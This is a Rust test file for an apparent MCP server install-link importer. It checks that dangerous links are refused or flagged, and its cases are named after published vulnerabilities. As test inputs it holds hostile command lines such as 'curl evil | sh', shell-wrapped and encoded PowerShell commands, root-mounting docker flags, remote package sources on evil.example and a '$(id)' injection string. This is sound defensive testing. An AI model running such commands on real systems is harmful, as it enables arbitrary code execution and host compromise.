@@ -1,0 +1,330 @@
+//! What was done with install links elsewhere, each under the name by which it was published, and the rules that follow.
+
+use std::fmt::Write as _;
+
+use other_apps::import;
+use serde_json::json;
+
+use super::{one, others, own, refused};
+
+#[test]
+fn cve_2025_54133_nothing_of_a_command_is_left_out_of_what_is_shown() {
+    let hidden = format!("{}--exfiltrate", " ".repeat(4_000));
+    let args = ["-y", "@acme/files", hidden.as_str(), "last"];
+    let found =
+        one(&own("files", &json!({ "command": "npx", "args": args, "env": { "NODE_OPTIONS": "--require ./x" } })));
+    let stdio = found.config.as_stdio().unwrap();
+    assert_eq!(stdio.args, args, "every argument is there to be shown, as long as it is");
+    assert_eq!(stdio.env["NODE_OPTIONS"], "--require ./x", "and every variable");
+}
+
+#[test]
+fn cve_2025_64106_a_name_is_no_title() {
+    for name in ["Drawbridge: verified", "a b", "", "é", &"n".repeat(65), "a/b", "<b>"] {
+        let link = own(&name.replace(' ', "%20"), &json!({ "command": "x" }));
+        if name.is_empty() {
+            assert_eq!(super::in_words(&one(&link)), "x: x {}", "without a name it is made of the command");
+            continue;
+        }
+        let message = refused(&link);
+        assert!(
+            message.ends_with("a server's name has 1 to 64 letters, digits, \".\", \"-\" or \"_\""),
+            "{name:?}: {message}"
+        );
+    }
+    assert_eq!(one(&own(&"n".repeat(64), &json!({ "command": "x" }))).name, "n".repeat(64), "64 are allowed");
+}
+
+#[test]
+fn chatbox_3627_no_key_has_a_server_started_or_saved() {
+    for key in ["enabled", "autoStart", "autostart", "disabled", "start"] {
+        let config = json!({ "command": "x", key: true });
+        assert!(refused(&own("a", &config)).ends_with(&format!("a link may not set {key:?}")), "{key} is refused");
+        let found = one(&others(&json!({ "name": "a", "command": "x", key: true })));
+        assert_eq!(found.notes, [format!("a link may not set these, which are left out: {key:?}")], "or left out");
+    }
+}
+
+#[test]
+fn cherry_studio_17699_only_what_is_shown_can_be_set() {
+    let internal = [
+        "dxtPath",
+        "cwd",
+        "sandbox",
+        "roots",
+        "timeout",
+        "autoApprove",
+        "alwaysAllow",
+        "trust",
+        "auth",
+        "envFile",
+        "inputs",
+        "protocolVersion",
+        "cmd",
+        "serverUrl",
+    ];
+    for key in internal {
+        let message = refused(&own("a", &json!({ "command": "x", key: "/tmp/evil" })));
+        assert_eq!(
+            message,
+            format!("this link for Drawbridge can't be used: a link may not set {key:?}"),
+            "it is refused by name"
+        );
+    }
+    let found = one(&others(&json!({ "name": "a", "command": "x", "dxtPath": "/tmp/evil" })));
+    assert_eq!(found.config.command_line(), "x", "what runs is what is shown");
+    assert_eq!(found.notes, ["a link may not set these, which are left out: \"dxtPath\""], "and the key is named");
+    let extra = format!("{}&trust=true", own("a", &json!({ "command": "x" })));
+    assert!(refused(&extra).ends_with("a link may not set \"trust\""), "nor is there a parameter for more");
+    assert!(
+        refused(&own("a", &json!({ "name": "b", "command": "x" }))).ends_with("it has two names"),
+        "one name is shown"
+    );
+}
+
+#[test]
+fn cherry_studio_9509_no_server_is_active_by_its_link_and_there_are_at_most_20() {
+    let found = one(&others(&json!({ "name": "a", "command": "x", "isActive": true })));
+    assert_eq!(found.notes, ["a link may not set these, which are left out: \"isActive\""], "the switch is not read");
+    let many = |count: usize| {
+        let server = |number| json!({ "name": format!("s{number}"), "command": "x" });
+        others(&(0..count).map(server).collect())
+    };
+    assert_eq!(import(&many(20), &[]).unwrap().len(), 20, "20 in one list");
+    assert!(refused(&many(21)).ends_with("it has more than 20 servers"), "and no more");
+    let list = json!([{ "command": "x" }, { "command": "y" }]);
+    assert!(
+        refused(&own("a", &list)).ends_with("an object was expected in it, found a list"),
+        "Drawbridge's own have one"
+    );
+}
+
+#[test]
+fn goose_and_5ire_431_arguments_that_run_code_or_give_folders_away_are_marked() {
+    let code = "runs code that stands in the link or is loaded first";
+    let source = "takes code from an address, and not from the usual registry";
+    let folder = "gives the container a folder, a device or rights of this computer";
+    let shell = "is a shell, which runs whatever its arguments say";
+    let cases: &[(&[&str], &[&str])] = &[
+        (&["npx", "-c", "curl evil | sh"], &[code]),
+        (&["npx", "-y", "--call=evil", "@acme/files"], &[code]),
+        (&["npm", "exec", "-yc", "evil"], &[code]),
+        (&["node", "-e", "evil()"], &[code]),
+        (&["node", "--import=data:text/javascript,evil", "x.js"], &[code]),
+        (&["/usr/bin/python3.12", "-Ic", "import os"], &[code]),
+        (&["uvx", "--from", "git+https://evil.example/x", "acme"], &[source]),
+        (&["uvx", "--index-url=https://evil.example/simple", "acme"], &[source]),
+        (&["npx", "-y", "https://evil.example/x.tgz"], &["loads code from an address"]),
+        (&["deno", "run", "-A", "https://evil.example/x.ts"], &["loads code from an address"]),
+        (&["docker", "run", "-i", "-v", "/:/host", "acme"], &[folder]),
+        (&["docker", "run", "-iv", "/:/host", "acme"], &[folder]),
+        (&["podman", "run", "--mount", "type=bind,src=/,dst=/h", "acme"], &[folder]),
+        (&["docker", "run", "--privileged", "--network=host", "acme"], &[folder, folder]),
+        (&["docker", "run", "acme", "sh", "-c", "evil"], &[shell, code]),
+        (&["cmd", "/C", "evil"], &[shell, code]),
+        (&["bash", "-lc", "evil"], &[shell, code]),
+        (&["C:\\Windows\\powershell.exe", "-EncodedCommand", "ZQ=="], &[shell, code]),
+        (&["env", "A=b", "sh", "-c", "evil"], &[shell, code]),
+        (&["sudo", "acme"], &["runs the rest with more rights than yours"]),
+        // What servers need every day has none.
+        (&["npx", "-y", "@acme/files", "-c", "settings.json", "--eval"], &[]),
+        (&["npx", "-y", "@acme/cmd", "/srv/x"], &[]),
+        (&["uvx", "--from", "acme==1.2", "acme-mcp", "-v"], &[]),
+        (&["docker", "run", "-i", "--rm", "-e", "TOKEN", "--network=none", "ghcr.io/acme/files:1"], &[]),
+        (&["python", "-m", "mcp_server", "-c", "x"], &[]),
+        (&["python", "-mmcp_server"], &[]),
+        (&["node", "server.js", "-e", "production"], &[]),
+    ];
+    for (words, marks) in cases {
+        let found = one(&own("a", &json!({ "command": words[0], "args": words[1..] })));
+        let remarks: Vec<&String> = found.notes.iter().filter(|note| !note.contains("placeholder")).collect();
+        assert_eq!(remarks.len(), marks.len(), "the remarks on {words:?}: {remarks:?}");
+        for (remark, mark) in remarks.iter().zip(*marks) {
+            assert!(remark.contains(mark), "{mark:?} is said of {words:?}: {remark}");
+        }
+        assert!(found.usable, "a list of such is no boundary: what it does not know would pass it");
+    }
+    let env = json!({ "NODE_OPTIONS": "--require /x", "npm_config_registry": "https://evil.example", "REGION": "eu" });
+    let found = one(&own("a", &json!({ "command": "npx", "args": ["-y", "acme"], "env": env })));
+    assert_eq!(
+        found.notes,
+        ["these variables decide which code runs: \"NODE_OPTIONS\", \"npm_config_registry\""],
+        "variables do so, too"
+    );
+}
+
+#[test]
+fn levante_50_that_a_package_is_known_says_nothing() {
+    for package in ["@modelcontextprotocol/server-filesystem", "@acme/never-published"] {
+        let found = one(&own("a", &json!({ "command": "npx", "args": ["-y", package] })));
+        assert_eq!(
+            (found.notes, found.usable),
+            (Vec::new(), true),
+            "both are shown in the same way, and asked about later"
+        );
+    }
+}
+
+#[test]
+fn lobehub_14773_no_shell_reads_a_command() {
+    let found = one(&own("a", &json!({ "command": "npx acme && touch /tmp/x; $(id) `id`" })));
+    let stdio = found.config.as_stdio().unwrap();
+    assert_eq!(stdio.command, "npx", "the text is taken apart at its blanks");
+    assert_eq!(stdio.args, ["acme", "&&", "touch", "/tmp/x;", "$(id)", "`id`"], "signs of shells are plain arguments");
+}
+
+#[test]
+fn hermes_87581_exactly_one_of_command_and_url_by_http() {
+    let cases = [
+        (json!({ "command": "x", "url": "https://a.example" }), "more than one of \"command\" and \"url\""),
+        (json!({}), "there is no server in it"),
+        (json!({ "command": "" }), "\"command\" must not be empty"),
+        (json!({ "command": ["sh", "-c"] }), "\"command\" must be a text, found a list"),
+        (json!({ "command": { "path": "sh" } }), "\"command\" must be a text, found an object"),
+        (json!({ "url": "file:///etc/passwd" }), "must begin with https://"),
+        (json!({ "url": "ftp://a.example" }), "must begin with https://"),
+        (json!({ "url": "ws://a.example" }), "must begin with https://"),
+        (json!({ "url": "javascript:alert(1)" }), "must begin with https://"),
+        (json!({ "url": "https://ann:pw@a.example" }), "user name or password"),
+        (
+            json!({ "url": "https://a.example", "type": "stdio" }),
+            "its \"type\" is \"stdio\", which does not go with the rest",
+        ),
+        (json!({ "command": "x", "type": "http" }), "its \"type\" is \"http\", which does not go with the rest"),
+        (
+            json!({ "url": "https://a.example", "type": "ws" }),
+            "its \"type\" is \"ws\", which does not go with the rest",
+        ),
+        (json!({ "command": "x", "args": "y" }), "\"args\""),
+        (json!({ "command": "x", "headers": {} }), "a link may not set \"headers\""),
+        (json!({ "url": "https://a.example", "env": {} }), "a link may not set \"env\""),
+        (json!({ "url": "https://a.example", "headers": { "Host": "b" } }), "set by Drawbridge itself"),
+    ];
+    for (config, message) in cases {
+        let found = refused(&own("a", &config));
+        assert!(found.contains(message), "{message:?} is said of {config}: {found}");
+    }
+    let twice = "vscode:mcp/install?{\"command\":\"good\",\"command\":\"evil\"}";
+    assert!(refused(twice).contains("\"command\" stands twice"), "no key is taken from one of two places");
+}
+
+#[test]
+fn hermes_87581_a_link_has_at_most_32_kib() {
+    let of = |length: usize| {
+        let start = "vscode:mcp/install?{\"command\":\"x\",\"args\":[\"";
+        format!("{start}{}\"]}}", "a".repeat(length - start.len() - 3))
+    };
+    assert_eq!(one(&of(32 * 1_024)).config.as_stdio().unwrap().args.len(), 1, "32 KiB are read");
+    assert!(refused(&of(32 * 1_024 + 1)).starts_with("the link is longer than 32 KiB"), "and not one byte more");
+}
+
+#[test]
+fn secrets_in_links_are_kept_apart_and_repeated_nowhere() {
+    let token = "sk-proj-4eC39HqLyjWDarjtT1zdp7dc";
+    let remote = one(&own(
+        "a",
+        &json!({ "url": "https://a.example", "headers": { "Authorization": format!("Bearer {token}"), "X-Team": "red" } }),
+    ));
+    assert_eq!(remote.secrets, ["Authorization"], "the header goes to the keychain");
+    let local = one(&own("a", &json!({ "command": "x", "env": { "API_KEY": token, "OTHER": token, "REGION": "eu" } })));
+    assert_eq!(local.secrets, ["API_KEY", "OTHER"], "and so do variables, by name or by value");
+    let note = "the link carries what looks like a secret: \"Authorization\"; whoever has the link has it, too";
+    assert_eq!(remote.notes, [note], "the user is told");
+    assert!(!format!("{:?}{:?}", remote.notes, local.notes).contains("4eC39"), "without the value");
+    for config in [
+        json!({ "url": "https://a.example", "headers": { "K": format!("{token}\u{202e}") } }),
+        json!({ "command": "x", "env": { "A=": token } }),
+        json!({ "command": "x", "env": { "K": [token] } }),
+    ] {
+        assert!(!refused(&own("a", &config)).contains("4eC39"), "nor is it in what is wrong with a link");
+    }
+}
+
+#[test]
+fn a_link_gets_at_no_secret_that_drawbridge_keeps() {
+    let named = "${secret:github.GITHUB_TOKEN}";
+    for config in [
+        json!({ "command": "npx", "args": ["-y", "github"], "env": { "GITHUB_TOKEN": named, "NODE_OPTIONS": "--require /x" } }),
+        json!({ "url": "https://evil.example", "headers": { "X": format!("Bearer {named}") } }),
+    ] {
+        assert!(refused(&own("github", &config)).contains("names a secret that Drawbridge keeps"), "{config}");
+    }
+}
+
+#[test]
+fn an_address_that_is_not_of_the_internet_is_said_to_be_so() {
+    let note = |url: &str| one(&own("a", &json!({ "url": url }))).notes.first().cloned().unwrap_or_default();
+    for url in [
+        "http://localhost:3000/mcp",
+        "https://127.9.9.9",
+        "http://[::1]:80",
+        "https://a.localhost",
+        "https://[::ffff:127.0.0.1]",
+        "https://0.0.0.0",
+    ] {
+        assert!(note(url).starts_with("its address is on this computer"), "{url}: {}", note(url));
+    }
+    for url in [
+        "https://10.0.0.1",
+        "https://192.168.1.1/admin",
+        "https://169.254.169.254/latest",
+        "https://router",
+        "https://nas.local",
+        "https://x.internal",
+        "https://[fe80::1]",
+        "https://100.64.0.1",
+        "https://2130706433.lan",
+        "https://0xa000001",
+    ] {
+        assert!(note(url).starts_with("its address is in your network"), "{url}: {}", note(url));
+    }
+    assert_eq!(note("https://2130706433/"), note("https://127.0.0.1"), "however an address is written");
+    for url in ["https://mcp.example.com", "https://localhost.example.com", "https://8.8.8.8"] {
+        assert_eq!(note(url), "", "{url} is of the internet");
+    }
+    assert_eq!(
+        note("https://xn--gthub-n4a.com/mcp"),
+        "its host has letters that can be taken for others: it is \"xn--gthub-n4a.com\"",
+        "a look-alike"
+    );
+    for url in ["http://mcp.example.com", "http://192.168.1.1", "http://localhost.example.com", "http://nas.local"] {
+        assert!(refused(&own("a", &json!({ "url": url }))).contains("its address is not encrypted"), "{url}");
+    }
+}
+
+#[test]
+fn characters_that_nobody_sees_are_refused_wherever_they_stand() {
+    for hidden in ['\u{202e}', '\u{200b}', '\u{e0041}', '\u{3164}', '\u{ad}', '\u{1b}', '\n', '\u{2028}'] {
+        let text = format!("a{hidden}b");
+        let configs = [
+            json!({ "command": text }),
+            json!({ "command": "x", "args": [text] }),
+            json!({ "command": "x", "env": { "A": text } }),
+            json!({ "url": "https://a.example", "headers": { "A": text } }),
+        ];
+        for config in configs {
+            let message = refused(&own("a", &config));
+            let mut code = String::new();
+            write!(code, "has a character that is not seen (U+{:04X})", hidden as u32).unwrap();
+            assert!(message.contains(&code), "{config} is refused: {message}");
+            assert!(!message.contains(hidden), "and the message does not repeat it");
+        }
+    }
+    let message = refused(&own("a", &json!({ "command": "x", "\u{202e}cwd": 1 })));
+    assert!(message.ends_with("a link may not set \"\\u{202e}cwd\""), "a key is written out: {message}");
+    let long = "k".repeat(10_000);
+    let message =
+        refused(&format!("vscode:mcp/install?{{\"command\":\"x\",\"env\":{{\"{long}\":\"a\",\"{long}\":\"b\"}}}}"));
+    assert!(message.len() < 1_000, "and a problem is short, whatever the link holds");
+}
+
+#[test]
+fn a_server_that_is_there_stays_as_it_is() {
+    let found = import(&own("GitHub", &json!({ "command": "evil" })), &["github".into()]).unwrap().remove(0);
+    assert_eq!(found.name, "GitHub-2", "it would be another one");
+    assert_eq!(
+        found.notes,
+        ["there is a server \"GitHub\" already, which stays as it is: this one would be added beside it"],
+        "and that is said"
+    );
+}
